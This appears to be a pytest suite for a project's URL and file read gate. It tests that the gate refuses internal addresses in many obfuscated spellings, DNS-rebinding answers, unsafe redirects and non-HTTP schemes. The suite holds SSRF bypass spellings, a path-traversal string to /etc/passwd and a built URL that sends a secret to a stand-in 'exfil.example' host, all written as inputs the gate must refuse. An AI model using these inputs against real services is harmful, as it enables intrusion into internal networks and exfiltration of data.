"""The IO policy and its gate: address classification, URL spellings (hypothesis), and real reads against a
canary HTTP server on 127.0.0.1 (refused reads must never reach it; allowed ones are pinned, redirected hop
by hop, capped and timed out)."""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipelex.errors import ReadFailedError, ReadRefusedError
from pipelex.io.gate import read_reference
from pipelex.io.policy import (
    HttpTarget,
    IOPolicy,
    RefusalReason,
    address_refusal,
    literal_address,
    parse_http_url,
)
from pipelex.storage.local import LocalStorage
from tests.security.canary import SECRET, Canary, canary_server

# the CLI's default shape, every URL read as one its caller named (these tests are about addresses, schemes and
# reads): internal stays refused. The rule on URLs a run builds is tested with CLI below.
OPEN = IOPolicy(allow_local_files=True, allow_urls=True, allow_built_urls=True)
CLI = IOPolicy(allow_local_files=True, allow_urls=True)  # the CLI's default: only the URLs its caller named
CLOSED = IOPolicy()


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A canary HTTP server on 127.0.0.1."""
    with canary_server() as served:
        yield served


def read(url: str, policy: IOPolicy, storage: LocalStorage | None = None) -> tuple[bytes, str | None]:
    """Read through the gate, synchronously."""
    return asyncio.run(read_reference(url, policy, storage, pipe_code="probe"))


# ---------------------------------------------------------------------------------------------------- addresses
@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "127.255.0.9",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "0.0.0.0",
        "100.64.0.1",
        "224.0.0.1",
        "239.1.2.3",
        "255.255.255.255",
        "240.0.0.1",
        "192.0.2.5",
        "198.18.0.1",
        "::1",
        "::",
        "fe80::1",
        "fc00::1",
        "fd12::1",
        "ff02::1",
        "::ffff:127.0.0.1",
        "::ffff:10.0.0.1",
        "::127.0.0.1",
        "64:ff9b::7f00:1",
        "64:ff9b::a00:1",
        "2002:7f00:1::",
        "2002:a00:1::1",
        "2001:db8::1",
    ],
)
def test_non_public_addresses_are_refused(address: str) -> None:
    assert address_refusal(ipaddress.ip_address(address)) is not None


@pytest.mark.parametrize(
    "address",
    [
        "93.184.215.14",
        "8.8.8.8",
        "1.1.1.1",
        "2606:4700:4700::1111",
        "::ffff:93.184.215.14",
        "2002:5db8:d70e::1",
    ],
)
def test_public_addresses_pass(address: str) -> None:
    assert address_refusal(ipaddress.ip_address(address)) is None


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("0x7f000001", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("[::1]", "::1"),
        ("[::ffff:7f00:1]", "::ffff:127.0.0.1"),
        ("127.0.0.1.", "127.0.0.1"),
        ("example.com", None),
        ("localhost", None),
    ],
)
def test_literal_addresses_in_every_spelling(host: str, address: str | None) -> None:
    found = literal_address(host)
    assert found == (ipaddress.ip_address(address) if address else None)


# ---------------------------------------------------------------------------------------------------- URL spellings
def _spellings(address: ipaddress.IPv4Address) -> st.SearchStrategy[str]:
    value = int(address)
    octets = [int(part) for part in str(address).split(".")]
    forms = [
        str(address),
        str(value),
        hex(value),
        hex(value).upper().replace("0X", "0x"),
        ".".join(f"0{o:o}" for o in octets),
        ".".join(hex(o) for o in octets),
        f"{octets[0]}.{value & 0xFFFFFF}",
        f"{octets[0]}.{octets[1]}.{value & 0xFFFF}",
        f"[::ffff:{address}]",
        f"[::ffff:{value >> 16:x}:{value & 0xFFFF:x}]",
        f"[64:ff9b::{address}]",
        f"{address}.",
    ]
    return st.sampled_from(forms)


_INTERNAL_V4 = st.one_of(
    st.integers(int(ipaddress.IPv4Address("127.0.0.0")), int(ipaddress.IPv4Address("127.255.255.255"))),
    st.integers(int(ipaddress.IPv4Address("10.0.0.0")), int(ipaddress.IPv4Address("10.255.255.255"))),
    st.integers(int(ipaddress.IPv4Address("172.16.0.0")), int(ipaddress.IPv4Address("172.31.255.255"))),
    st.integers(int(ipaddress.IPv4Address("192.168.0.0")), int(ipaddress.IPv4Address("192.168.255.255"))),
    st.integers(int(ipaddress.IPv4Address("169.254.0.0")), int(ipaddress.IPv4Address("169.254.255.255"))),
    st.integers(int(ipaddress.IPv4Address("100.64.0.0")), int(ipaddress.IPv4Address("100.127.255.255"))),
    st.integers(int(ipaddress.IPv4Address("224.0.0.0")), int(ipaddress.IPv4Address("255.255.255.255"))),
    st.integers(0, int(ipaddress.IPv4Address("0.255.255.255"))),
).map(ipaddress.IPv4Address)


@st.composite
def internal_urls(draw: st.DrawFn) -> str:
    """An http(s) URL naming an internal IPv4 address in one of its many spellings."""
    address = draw(_INTERNAL_V4)
    host = draw(_spellings(address))
    scheme = draw(st.sampled_from(["http", "https", "HTTP", "hTTps"]))
    port = draw(st.sampled_from(["", ":80", ":8080", ":65535"]))
    path = draw(st.sampled_from(["/", "/x.pdf", "/a?b=c", ""]))
    return f"{scheme}://{host}{port}{path}"


@settings(max_examples=300, deadline=None)
@given(internal_urls())
def test_internal_addresses_are_refused_in_any_spelling(url: str) -> None:
    refusal = OPEN.refusal(url)
    assert refusal is not None, url
    assert refusal.reason in (RefusalReason.INTERNAL, RefusalReason.MALFORMED)


@settings(max_examples=100, deadline=None)
@given(internal_urls(), st.sampled_from(["user@", "user:pw@", "example.com@", "a%40b@"]))
def test_urls_with_credentials_are_refused(url: str, userinfo: str) -> None:
    scheme, rest = url.split("://", 1)
    refusal = OPEN.refusal(f"{scheme}://{userinfo}{rest}")
    assert refusal is not None and refusal.reason is RefusalReason.MALFORMED


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(st.integers(0, 2**32 - 1).map(ipaddress.IPv4Address))
def test_any_ipv4_address_is_judged_the_same_in_every_spelling(address: ipaddress.IPv4Address) -> None:
    verdicts = {OPEN.refusal(f"http://{host}/") is None for host in _all_forms(address)}
    assert len(verdicts) == 1, address
    assert verdicts == {address_refusal(address) is None}


def _all_forms(address: ipaddress.IPv4Address) -> list[str]:
    value = int(address)
    octets = [int(part) for part in str(address).split(".")]
    return [
        str(address),
        str(value),
        hex(value),
        ".".join(f"0{o:o}" for o in octets),
        f"{octets[0]}.{value & 0xFFFFFF}",
        f"[::ffff:{address}]",
    ]


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1\\@example.com/",
        "http://exa mple.com/",
        "http://example.com:99999/",
        "http:///x",
        "http://[::1%25eth0]/",
        "javascript:alert(1)",
        "gopher://example.com/",
        "ftp://example.com/x",
        "http://user@example.com/",
        "http://localhost/",
        "http://a.localhost:80/",
        "http://example.com\t/",
    ],
)
def test_odd_urls_are_refused(url: str) -> None:
    assert OPEN.refusal(url) is not None


def test_public_urls_and_data_pass_the_open_policy() -> None:
    assert OPEN.refusal("https://example.com/report.pdf") is None
    assert OPEN.refusal("http://93.184.215.14:8080/x") is None
    assert CLOSED.refusal("data:text/plain;base64,aGk=") is None
    assert CLOSED.refusal("pipelex-storage://" + "a" * 64 + ".png") is None


def test_the_closed_policy_reads_no_file_and_no_url(tmp_path: Path) -> None:
    reasons = [
        getattr(CLOSED.refusal(url), "reason", None)
        for url in (str(tmp_path / "x.pdf"), (tmp_path / "x.pdf").as_uri(), "https://example.com/x")
    ]
    assert reasons == [RefusalReason.LOCAL_FILE, RefusalReason.LOCAL_FILE, RefusalReason.URL]


def test_local_roots_hold_only_their_own_files(tmp_path: Path) -> None:
    root = tmp_path / "storage"
    root.mkdir()
    (root / "blob.pdf").write_bytes(b"%PDF-1.4 inside")
    (tmp_path / "outside.txt").write_text("outside")
    (root / "link").symlink_to(tmp_path / "outside.txt")
    policy = IOPolicy.closed(local_roots=(str(root),))
    assert policy.refusal(str(root / "blob.pdf")) is None
    assert policy.refusal(str(root / ".." / "outside.txt")) is not None
    assert policy.refusal(str(root / "link")) is not None  # a symlink out of the root is judged by its target
    assert policy.refusal(str(tmp_path / "storage-sibling" / "x")) is not None
    assert read(str(root / "blob.pdf"), policy)[0] == b"%PDF-1.4 inside"


def test_parse_keeps_host_and_port_apart() -> None:
    target = parse_http_url("https://Example.COM./a/b?c=d")
    assert isinstance(target, HttpTarget)
    assert (target.host, target.port, target.path, target.host_header) == (
        "example.com",
        443,
        "/a/b?c=d",
        "example.com",
    )
    assert target.url_for(ipaddress.ip_address("::1")) == "https://[::1]:443/a/b?c=d"


# ---------------------------------------------------------------------------------------------------- the gate
@pytest.mark.parametrize(
    "path",
    ["/doc.pdf", "/r"],
    ids=["direct", "redirect"],
)
@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "0x7f000001", "2130706433", "127.1", "[::ffff:127.0.0.1]"],
)
def test_internal_urls_never_reach_the_server(canary: Canary, host: str, path: str) -> None:
    url = f"http://{host}:{canary.port}{path}"
    with pytest.raises(ReadRefusedError) as caught:
        read(url, OPEN)
    assert canary.requests == []
    message = str(caught.value)
    assert "refused" in message and "Connect" not in message and SECRET not in message


def test_closed_policy_refuses_urls_and_files(canary: Canary, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    for url in (f"{canary.url}/doc.pdf", str(secret), secret.as_uri()):
        with pytest.raises(ReadRefusedError):
            read(url, CLOSED)
    assert canary.requests == []


def test_a_trusted_origin_is_read_pinned_to_its_checked_address(canary: Canary, monkeypatch: Any) -> None:
    """The host is looked up once; the connection goes to that address with the original Host header."""
    lookups: list[str] = []
    real = socket.getaddrinfo

    def counting(host: Any, *args: Any, **kwargs: Any) -> Any:
        lookups.append(str(host))
        return (
            real("127.0.0.1", *args, **kwargs) if host == "docs.pinned.test" else real(host, *args, **kwargs)
        )

    monkeypatch.setattr(socket, "getaddrinfo", counting)
    origin = f"http://docs.pinned.test:{canary.port}"
    data, mime = read(f"{origin}/doc.pdf", OPEN.model_copy(update={"trusted_origins": (origin,)}))
    assert data.startswith(b"%PDF") and mime == "application/pdf"
    assert lookups.count("docs.pinned.test") == 1
    assert canary.requests == [("GET", "/doc.pdf", f"docs.pinned.test:{canary.port}")]


def test_a_name_resolving_to_any_internal_address_is_refused(canary: Canary, monkeypatch: Any) -> None:
    """Every resolved address is checked: one public and one loopback answer is a refusal."""
    real = socket.getaddrinfo

    def mixed(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host == "rebind.test":
            return [
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", port)),
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port)),
            ]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", mixed)
    with pytest.raises(ReadRefusedError, match="not a public address"):
        read(f"http://rebind.test:{canary.port}/doc.pdf", OPEN)
    assert canary.requests == []


def test_an_unresolvable_name_reads_like_an_internal_one() -> None:
    with pytest.raises(ReadRefusedError) as caught:
        read("http://no-such-host.invalid/x.pdf", OPEN)
    assert "not a public address" in str(caught.value)


def test_each_redirect_hop_is_checked_again(monkeypatch: Any) -> None:
    """A trusted origin redirecting to another (untrusted) loopback server: the second never hears of it."""
    with canary_server() as first, canary_server() as second:
        policy = OPEN.model_copy(update={"trusted_origins": (first.url,)})
        with pytest.raises(ReadRefusedError, match="internal address"):
            read(f"{first.url}/to?url={second.url}/doc.pdf", policy)
        assert [r[1] for r in first.requests] == [f"/to?url={second.url}/doc.pdf"]
        assert second.requests == []
        # and a redirect inside the trusted origin is followed
        data, _ = read(f"{first.url}/r", policy)
        assert data.startswith(b"%PDF")


@pytest.mark.parametrize(
    "location",
    [
        "http:127.0.0.1:{port}/doc.pdf",  # no '//': httpx cannot build the next request (InvalidURL)
        "http://0177.0.0.1:{port}/doc.pdf",  # an octal address httpx refuses to parse
        "http://[::1:{port}/doc.pdf",  # an unclosed IPv6 bracket
        "http://a b:{port}/doc.pdf",
    ],
)
def test_a_redirect_to_a_malformed_location_cannot_be_read_and_reaches_nothing(
    canary: Canary, location: str
) -> None:
    """A Location header httpx itself cannot parse fails the read like any other failure (it raised a bare
    ``httpx.InvalidURL`` out of the gate: a traceback on the CLI, a 500 on the API)."""
    with canary_server() as trusted:
        policy = OPEN.model_copy(update={"trusted_origins": (trusted.url,)})
        target = quote(location.format(port=canary.port), safe="")
        with pytest.raises((ReadFailedError, ReadRefusedError)):
            read(f"{trusted.url}/to?url={target}", policy)
    assert canary.requests == []


@pytest.mark.parametrize("policy", [CLI, CLOSED], ids=["cli", "server"])
def test_a_redirect_leads_only_to_another_web_url(canary: Canary, tmp_path: Path, policy: IOPolicy) -> None:
    """A fetched URL redirecting to a stored blob's name, a file or another scheme is refused (thirteenth hostile
    pass: the gate asserted the next hop was http(s), a bare ``AssertionError`` out of the run, and a public host
    could otherwise name the run's own store or, on the CLI, the user's files)."""
    store = LocalStorage(tmp_path / "store")
    uri, _ = store.put(b"%PDF-1.4 stored secret", "application/pdf")
    secret = tmp_path / "secret.pdf"
    secret.write_bytes(b"%PDF-1.4 local secret")
    trusting = policy.model_copy(update={"trusted_origins": (canary.url,)})
    # (a bare path is relative: the same origin's path)
    for location in (uri, secret.as_uri(), "ftp://example.com/x.pdf"):
        with pytest.raises(ReadRefusedError, match="a redirect leads only to another http") as caught:
            read(f"{canary.url}/to?url={quote(location, safe='')}", trusting, store)
        assert caught.value.reason == "scheme"


def test_redirects_are_bounded(canary: Canary) -> None:
    policy = OPEN.model_copy(update={"trusted_origins": (canary.url,), "max_redirects": 0})
    with pytest.raises(ReadFailedError, match="redirects more than 0 times"):
        read(f"{canary.url}/r", policy)


def test_fetches_are_capped_in_size(canary: Canary) -> None:
    policy = OPEN.model_copy(update={"trusted_origins": (canary.url,), "max_read_bytes": 100_000})
    with pytest.raises(ReadFailedError) as caught:
        read(f"{canary.url}/big", policy)
    assert "cannot be read" in str(caught.value)


def test_fetches_are_bounded_in_time() -> None:
    """A server that accepts and never answers: the read fails after fetch_timeout_s, saying only that."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        origin = f"http://127.0.0.1:{listener.getsockname()[1]}"
        policy = OPEN.model_copy(update={"trusted_origins": (origin,), "fetch_timeout_s": 0.5})
        with pytest.raises(ReadFailedError) as caught:
            read(f"{origin}/slow", policy)
        assert "Timeout" not in str(caught.value) and "cannot be read" in str(caught.value)
    finally:
        listener.close()


def test_failures_say_nothing_about_what_answered(canary: Canary) -> None:
    """A closed port, a 404 and a live file read the same way: 'cannot be read', no error class or status."""
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    messages = []
    for url in (f"http://127.0.0.1:{port}/x", f"{canary.url}/missing"):
        origin = url.rsplit("/", 1)[0]
        with pytest.raises(ReadFailedError) as caught:
            read(url, IOPolicy(trusted_origins=(origin,)))
        messages.append(str(caught.value).replace(url, "URL"))
    assert messages[0] == messages[1]
    assert all("Connect" not in m and "404" not in m and "refused" not in m.split("(")[1] for m in messages)


def test_devices_and_pipes_are_never_read(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(ReadFailedError, match="not a regular file"):
        read(str(fifo), OPEN)
    with pytest.raises(ReadRefusedError, match="system folder"):  # /dev is never read (test_system_files.py)
        read("/dev/zero", OPEN)


def test_a_path_holding_a_nul_byte_is_refused_under_every_policy(tmp_path: Path) -> None:
    """The OS refuses such a path with a ValueError, not an OSError: the gate answers it as a malformed
    reference (a ReadRefusedError the run reports), never as a crash of the pipe."""
    (tmp_path / "a.png").write_bytes(b"x")
    for policy in (OPEN, IOPolicy(), IOPolicy(local_roots=(str(tmp_path),))):
        for url in (f"{tmp_path}/a.png\x00.txt", f"file://{tmp_path}/a.png%00.txt", "\x00"):
            with pytest.raises(ReadRefusedError, match="NUL byte"):
                read(url, policy)


def test_local_files_are_capped(tmp_path: Path) -> None:
    big = tmp_path / "big.bin"
    big.write_bytes(b"x" * 2048)
    with pytest.raises(ReadFailedError, match="more than 1024 bytes"):
        read(str(big), OPEN.model_copy(update={"max_read_bytes": 1024}))


def test_storage_and_data_urls_are_read_under_the_closed_policy(tmp_path: Path) -> None:
    store = LocalStorage(tmp_path / "store")
    uri, _ = store.put(b"%PDF-1.4 stored", "application/pdf")
    assert read(uri, CLOSED, store)[0] == b"%PDF-1.4 stored"
    data_url = "data:application/pdf;base64," + base64.b64encode(b"%PDF inline").decode()
    assert read(data_url, CLOSED) == (b"%PDF inline", "application/pdf")
    with pytest.raises(ReadFailedError):
        read("pipelex-storage://../../etc/passwd", CLOSED, store)


def _self_signed(tmp_path: Path, host: str) -> tuple[Path, Path]:
    """A throwaway certificate for ``host`` (its key and its PEM), made with ``cryptography``."""
    pytest.importorskip(
        "cryptography", reason="cryptography (a dev dependency through moto) makes the certificate"
    )
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=1))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(host)]), critical=False)
        .sign(key, hashes.SHA256())
    )
    key_path, cert_path = tmp_path / "key.pem", tmp_path / "cert.pem"
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return key_path, cert_path


def test_https_goes_to_the_checked_address_with_the_original_server_name(
    tmp_path: Path, monkeypatch: Any
) -> None:
    """The TLS handshake reaches the address the name resolved to, naming the original host (SNI), and the
    certificate is verified for that host: an untrusted one fails the read, saying only 'cannot be read'."""
    import ssl
    import threading

    host = "docs.pinned.test"
    key_path, cert_path = _self_signed(tmp_path, host)
    server_context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server_context.load_cert_chain(cert_path, key_path)
    names: list[str | None] = []

    def record_name(_sock: ssl.SSLObject, name: str | None, _ctx: ssl.SSLContext) -> None:
        names.append(name)

    server_context.sni_callback = record_name
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    port = listener.getsockname()[1]

    def accept_one() -> None:
        connection, _ = listener.accept()
        with connection:
            try:
                server_context.wrap_socket(connection, server_side=True).close()
            except (ssl.SSLError, OSError):
                pass  # the client refuses our self-signed certificate: expected

    thread = threading.Thread(target=accept_one, daemon=True)
    thread.start()
    real = socket.getaddrinfo

    def pinned(name: Any, *args: Any, **kwargs: Any) -> Any:
        return real("127.0.0.1", *args, **kwargs) if name == host else real(name, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", pinned)
    origin = f"https://{host}:{port}"
    try:
        with pytest.raises(ReadFailedError) as caught:
            read(f"{origin}/doc.pdf", OPEN.model_copy(update={"trusted_origins": (origin,)}))
        thread.join(timeout=10)
    finally:
        listener.close()
    assert names == [host]
    assert "cannot be read" in str(caught.value) and "SSL" not in str(caught.value)


# ---------------------------------------------------------------------------------------------------- built URLs
def test_a_url_the_run_built_is_refused_before_any_lookup(monkeypatch: Any) -> None:
    """On the CLI a bundle may read the user's files and fetch URLs: it could put a document's text in a URL it
    builds, and the fetch (or only its DNS lookup) would carry it out. Only the URLs the caller named (its inputs)
    are fetched now; a built one is refused before its host is even resolved."""
    looked_up: list[object] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **kwargs: looked_up.append(args) or [])
    leak = f"https://{SECRET.lower()}.exfil.example/?page={SECRET}"
    with pytest.raises(ReadRefusedError, match="only the URLs its caller named") as caught:
        read(leak, CLI)
    assert caught.value.reason == RefusalReason.BUILT_URL.value
    assert "allow_built_urls" in str(caught.value)
    assert looked_up == []


def test_the_urls_a_caller_named_are_fetched_and_only_those() -> None:
    named = CLI.naming(["https://example.com/report.pdf"])
    assert named.refusal("https://example.com/report.pdf") is None
    for built in (
        "https://example.com/report.pdf?q=secret",
        "https://example.com/",
        "https://evil.example/x",
    ):
        refusal = named.refusal(built)
        assert refusal is not None and refusal.reason is RefusalReason.BUILT_URL, built
    # a policy that fetches no URL, or every URL, names none (nothing travels with the run for nothing)
    assert CLOSED.naming(["https://example.com/a"]) is CLOSED
    assert OPEN.naming(["https://example.com/a"]) is OPEN
    # what a provider returns (a generated image) is not built by the bundle
    assert (
        CLI.for_provider_output("https://api.example.com/v1").refusal("https://cdn.example.net/i.png") is None
    )


def test_a_redirect_keeps_the_standing_of_the_url_it_came_from() -> None:
    """A named URL's redirects are followed (checked as usual); a built URL to a trusted origin does not become a
    way out through a redirect of that origin to another host."""
    with canary_server() as first, canary_server() as second:
        internal = CLI.model_copy(
            update={"allow_internal_urls": True}
        )  # loopback stands for public hosts here
        hop = f"{first.url}/to?url={second.url}/doc.pdf"
        data, _ = read(hop, internal.naming([hop]))
        assert data.startswith(b"%PDF") and len(second.requests) == 1
        trusted = internal.model_copy(update={"trusted_origins": (first.url,)})
        built = f"{first.url}/to?url={second.url}/doc.pdf%3Fleak%3D{SECRET}"
        with pytest.raises(ReadRefusedError, match="only the URLs its caller named"):
            read(built, trusted)
        assert len(second.requests) == 1  # the built hop reached the trusted origin only


def test_a_data_url_without_a_comma_is_quoted_short() -> None:
    """A data URL of 3 MB with no comma is all header: its message quoted all of it (thirteenth hostile pass)."""
    with pytest.raises(ReadFailedError, match="a malformed data: URL") as caught:
        read("data:image/png;" + "a" * 3_000_000, CLOSED)
    assert len(str(caught.value)) < 400
